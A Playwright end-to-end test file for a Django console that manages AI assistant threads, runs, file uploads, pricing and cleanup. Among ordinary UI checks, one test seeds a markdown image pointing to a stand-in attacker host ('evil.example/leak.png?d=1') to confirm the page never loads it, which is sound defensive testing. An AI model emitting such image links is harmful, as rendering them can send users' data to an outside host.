"""The console's second pass in chromium: landing, readable threads, Activity, uploads, cleanup, cost and CSP.

Each test runs at 1280 px and at 390 px wide, fails on any Content-Security-Policy violation the
browser reports, and saves screenshots under artifacts/screenshots/ (console2-*.png).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from django.utils import timezone

from console.runs.models import Run
from tests.web.conftest import PASSWORD, needs_chromium
from tests.web.test_e2e import _shot

pytestmark = needs_chromium

WIDTHS = [1280, 390]


@pytest.fixture
def violations() -> list[str]:
    return []


def _open(browser: Any, live_url: str, username: str, width: int, violations: list[str]) -> Any:
    context = browser.new_context(viewport={"width": width, "height": 900})
    page = context.new_page()
    page.set_default_timeout(15000)
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    page.on("dialog", lambda dialog: dialog.accept())
    page.goto(f"{live_url}/login")
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url("**/p/*/")
    return page


def go_to(page: Any, name: str) -> None:
    """Follows a header link; on a phone the sections are folded behind "Menu" first."""
    menu = page.get_by_role("button", name="Menu")
    if menu.is_visible():
        menu.click()
    page.locator("#main-nav").get_by_role("link", name=name, exact=True).click()


def _fits(page: Any, width: int) -> None:
    """No sideways scrolling of the page itself (wide tables scroll inside their own box)."""
    wide = page.evaluate(
        """(w) => Array.from(document.querySelectorAll('body *'))
        .filter(e => e.getBoundingClientRect().right > w + 10 && !e.closest('table'))
        .slice(0, 5).map(e => e.tagName + '.' + e.className + '#' + e.id + ' ' + Math.round(e.getBoundingClientRect().right))""",
        width,
    )
    assert page.evaluate("document.documentElement.scrollWidth") <= width + 10, wide


@pytest.fixture
def done(violations: list[str]) -> Iterator[None]:
    yield
    assert violations == [], violations


@pytest.mark.parametrize("width", WIDTHS)
def test_it_lands_in_a_project_and_lists_threads_people_can_read(
    browser, people, owner, api, live_url, width, violations, done
):
    bot = api.post("assistants", json={"model": "gpt-4o", "name": "Support bot"}).json()
    refund = api.post(
        "threads",
        json={
            "metadata": {"customer": "acme"},
            "messages": [
                {"role": "user", "content": "My parcel never came and I want a refund for order 1042."}
            ],
        },
    ).json()
    api.post("threads", json={"messages": [{"role": "user", "content": "How do I reset my password?"}]})
    Run.objects.create(
        project=owner.project,
        thread_id=refund["id"],
        assistant_id=bot["id"],
        model="gpt-4o",
        status="failed",
        last_error={"code": "server_error", "message": "boom"},
    )
    page = _open(browser, live_url, "vera-viewer", width, violations)
    page.get_by_role("navigation", name="Project").locator("summary").click()
    assert page.get_by_role("link", name="All projects").is_visible()
    _shot(page, f"console2-switcher-{width}")
    page.goto(f"{live_url}/p/{owner.project.pk}/threads")
    row = page.locator("tr.attention")
    assert "My parcel never came" in row.inner_text() and "Support bot" in row.inner_text()
    assert "Failed" in row.inner_text() and "customer=acme" in row.inner_text()
    _fits(page, width)
    _shot(page, f"console2-threads-{width}")
    page.get_by_label("Search messages").fill("refund for")
    page.locator(".snippet", has_text="refund for order 1042").wait_for()
    assert page.locator("td.conv").count() == 1
    _shot(page, f"console2-threads-search-{width}")
    page.context.close()


@pytest.mark.parametrize("width", WIDTHS)
def test_it_shows_live_runs_cancels_one_and_runs_a_failed_one_again(
    browser, people, owner, api, live_url, width, violations, done
):
    bot = api.post("assistants", json={"model": "gpt-4o", "name": "Tools bot"}).json()
    stuck_thread = api.post("threads").json()["id"]
    stuck = Run.objects.create(
        project=owner.project,
        thread_id=stuck_thread,
        assistant_id=bot["id"],
        model="gpt-4o",
        status="requires_action",
    )
    failed_thread = api.post("threads", json={"messages": [{"role": "user", "content": "hi"}]}).json()["id"]
    failed = Run.objects.create(
        project=owner.project,
        thread_id=failed_thread,
        assistant_id=bot["id"],
        model="gpt-4o",
        status="failed",
        failed_at=timezone.now(),
        last_error={"code": "rate_limit_exceeded", "message": "Slow down."},
    )
    page = _open(browser, live_url, "eddie-editor", width, violations)
    go_to(page, "Activity")
    page.locator(f"#live-{stuck.id}").wait_for()
    # The error in plain words; the API's code and message behind "details".
    row = page.locator(f"#failed-{failed.id}")
    assert "The model provider is limiting requests right now" in row.inner_text()
    assert "rate_limit_exceeded: Slow down." not in row.inner_text()
    _fits(page, width)
    _shot(page, f"console2-activity-{width}")
    page.locator(f"#live-{stuck.id}").get_by_role("button", name="Cancel").click()
    page.locator(f"#live-{stuck.id}").wait_for(state="detached")
    assert Run.objects.get(pk=stuck.id).status in ("cancelling", "cancelled")
    page.locator(f"#failed-{failed.id}").get_by_role("button", name="Run again").click()
    # The new run shows up live, or among the failures once a worker has run it without a provider.
    page.wait_for_function(
        """(thread) => Array.from(document.querySelectorAll('#activity tbody tr'))
        .filter(tr => tr.querySelector('a[href*="/threads/' + thread + '"]')).length >= 2""",
        arg=failed_thread,
    )
    assert Run.objects.filter(thread_id=failed_thread).exclude(pk=failed.id).exists()
    _shot(page, f"console2-activity-after-{width}")
    page.context.close()


@pytest.mark.parametrize("width", WIDTHS)
def test_it_uploads_hundreds_of_files_with_every_number_readable(
    browser, people, owner, api, worker, live_url, tmp_path, width, violations, done
):
    store = api.post("vector_stores", json={"name": "Many"}).json()["id"]
    count = 120
    files = []
    for i in range(count):
        path = tmp_path / f"doc-{i:03d}.txt"
        path.write_text(f"Document {i}.")
        files.append(str(path))
    page = _open(browser, live_url, "eddie-editor", width, violations)
    page.goto(f"{live_url}/p/{owner.project.pk}/vector_stores/{store}")
    page.locator("#batch-files").set_input_files(files)
    page.get_by_text(f"{count} of {count} uploaded and added to the store").wait_for(timeout=60000)
    # The list's left padding holds the widest item number ("120.") in the list's own font.
    room = page.evaluate("""() => {
        const list = document.querySelector('.upload-list');
        const style = getComputedStyle(list);
        const ctx = document.createElement('canvas').getContext('2d');
        ctx.font = style.fontSize + ' ' + style.fontFamily;
        return parseFloat(style.paddingLeft) - ctx.measureText(list.children.length + '. ').width;
    }""")
    assert room > 0
    page.locator(".upload-list li").nth(count - 1).scroll_into_view_if_needed()
    _shot(page, f"console2-upload-list-{width}")
    page.locator("[data-upload-counts]", has_text=f"{count} ingested").wait_for(timeout=60000)
    page.reload()
    page.locator("[data-upload-counts]", has_text=f"{count} of {count} arrived").wait_for()
    _fits(page, width)
    _shot(page, f"console2-upload-done-{width}")
    page.context.close()


@pytest.mark.parametrize("width", WIDTHS)
def test_it_cleans_up_prices_models_and_renders_markdown_safely(
    browser, people, owner, api, live_url, width, violations, done
):
    api.post("files", files={"file": ("stray.txt", b"x")}, data={"purpose": "assistants"})
    thread = api.post(
        "threads",
        json={
            "metadata": {"env": "test"},
            "messages": [{"role": "user", "content": "Look: ![chart](https://evil.example/leak.png?d=1)"}],
        },
    ).json()["id"]
    Run.objects.create(
        project=owner.project,
        thread_id=thread,
        assistant_id="asst_x",
        model="gpt-4o",
        status="completed",
        usage={"prompt_tokens": 1_000_000, "completion_tokens": 0, "total_tokens": 1_000_000},
    )
    page = _open(browser, live_url, "alice-admin", width, violations)
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.goto(f"{live_url}/p/{owner.project.pk}/threads/{thread}")
    page.get_by_role("link", name="Image: chart").wait_for()
    assert page.locator("img[src^='https://']").count() == 0 and not any(
        "evil.example" in u for u in requests
    )

    page.goto(f"{live_url}/p/{owner.project.pk}/prices")
    page.get_by_label("Model").fill("gpt-4o")
    page.get_by_label("Input $").fill("2.50")
    page.get_by_label("Output $").fill("10")
    page.get_by_role("button", name="Save price").click()
    page.locator("#prices td code", has_text="gpt-4o").wait_for()
    _shot(page, f"console2-prices-{width}")
    page.goto(f"{live_url}/p/{owner.project.pk}/threads/{thread}")
    page.get_by_text("This thread cost $2.50").wait_for()
    page.goto(f"{live_url}/p/{owner.project.pk}/")
    page.locator("#usage-chart .u-legend", has_text="Cost ($)").wait_for()
    _shot(page, f"console2-overview-cost-{width}")

    page.goto(f"{live_url}/p/{owner.project.pk}/cleanup")
    page.get_by_label("Delete threads with no new message or run for").fill("30")
    page.get_by_role("button", name="Save", exact=True).click()
    page.get_by_text("threads idle for 30 days are deleted every hour").wait_for()
    page.locator("#orphan-files").get_by_text("stray.txt").wait_for()
    page.get_by_label("Metadata key").fill("env")
    page.get_by_label("Metadata value").fill("test")
    page.get_by_role("button", name="Count matching threads").click()
    page.get_by_role("button", name="Delete 1 thread").wait_for()
    _fits(page, width)
    _shot(page, f"console2-cleanup-{width}")
    page.get_by_role("button", name="Delete 1 thread").click()
    page.get_by_text("Deleted 1 thread.").wait_for()
    page.context.close()
